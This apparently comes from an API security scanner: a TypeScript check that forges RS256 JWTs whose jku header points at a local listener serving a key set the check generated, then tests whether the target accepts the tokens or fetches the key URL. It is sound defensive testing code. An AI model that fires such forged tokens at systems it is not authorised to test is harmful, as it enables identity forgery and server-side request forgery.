import { randomUUID } from 'node:crypto';
import { setTimeout } from 'node:timers/promises';
import { exportJWK, generateKeyPair } from 'jose';
import type { Evidence } from '../../security-check.ts';
import { defineCheck } from '../../security-check.ts';
import { OobListener } from '../../toolkit/index.ts';
import { AUTH_CVSS } from './auth-cvss.ts';
import { authNeeds } from './auth-needs.ts';
import { forgeJwt, readJwt } from './forge-jwt.ts';
import { TokenOracle } from './token-oracle.ts';
import { SIGNATURES_NOT_VERIFIED } from './jwt-stripped-signature.ts';

const OWN_KID = 'crucible-jku';
/** A fetch can trail the refusal (a verifier that fetches in the background); wait this long for it. */
const LATE_FETCH_MS = 750;

export const jwtJkuSpoof = defineCheck({
  id: 'SEC-JWT-06',
  title: "Verification key fetched from the token's jku URL",
  owasp: 'API2',
  cwe: [347, 918],
  cvss: AUTH_CVSS.forgeAnyIdentity,
  attackClass: 'authentication',
  provenBy: ['jwt-follow-jku'],
  consequenceOf: SIGNATURES_NOT_VERIFIED,
  description:
    'Starts a listener on 127.0.0.1 serving a key set with a key the check generated, then takes a real token of ' +
    "userA (the control: the protected probe must accept it) and signs its claims RS256 with that key, the header's " +
    "jku pointing at the listener: once with the key's own kid, once with the real token's kid. Passes when the " +
    'protected probe refuses both (4xx, not 429) and the listener saw no request; fails when either token is ' +
    `answered 2xx, or when the target fetched the URL at all (an SSRF even if the token was then refused; fetches are awaited ${LATE_FETCH_MS} ms).`,
  applies: (p) => authNeeds(p, { probe: 'protectedProbe' }),
  async run(ctx, { probe }) {
    const { token } = await ctx.login('userA');
    const real = readJwt(token);
    const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
    const jwk = { ...(await exportJWK(publicKey)), kid: OWN_KID, alg: 'RS256', use: 'sig' };
    const keySet = JSON.stringify({ keys: [jwk, { ...jwk, kid: real.header['kid'] }] });
    await using oob = await OobListener.start({ answer: { contentType: 'application/json', body: keySet } });
    const jku = `${oob.origin}/crucible-jku/${randomUUID()}/jwks.json`;
    const sign = (kid: unknown): Promise<string> => forgeJwt({ alg: 'RS256', typ: 'JWT', kid, jku }, real.claims, { kind: 'key', key: privateKey });
    const outcome = await new TokenOracle(ctx, probe).judgeTokens(token, [
      { label: `RS256 signed by the key at its jku ${jku} (kid ${OWN_KID})`, token: await sign(OWN_KID) },
      { label: `RS256 signed by the key at its jku ${jku} (the real kid ${String(real.header['kid'])})`, token: await sign(real.header['kid']) },
    ]);
    await setTimeout(LATE_FETCH_MS);
    const fetches = oob.arrivals.flatMap((a) => (a.request ? [a.request] : []));
    if (fetches.length === 0) return outcome;
    const seen: Evidence[] = fetches.map((f) => ({
      method: f.method,
      url: `${oob.origin}${f.url}`,
      requestHeaders: Object.fromEntries(Object.entries(f.headers).map(([k, v]) => [k, String(v)])),
      status: 200,
      note: "seen by the check's listener: the target fetched the attacker's key set",
    }));
    if (outcome.verdict === 'fail') return { ...outcome, evidence: [...outcome.evidence, ...seen] };
    return {
      verdict: 'fail',
      summary: `the target fetched the token's jku URL (${fetches.length} request(s) to the check's listener), though it refused the token`,
      evidence: [...seen, ...outcome.evidence],
    };
  },
});
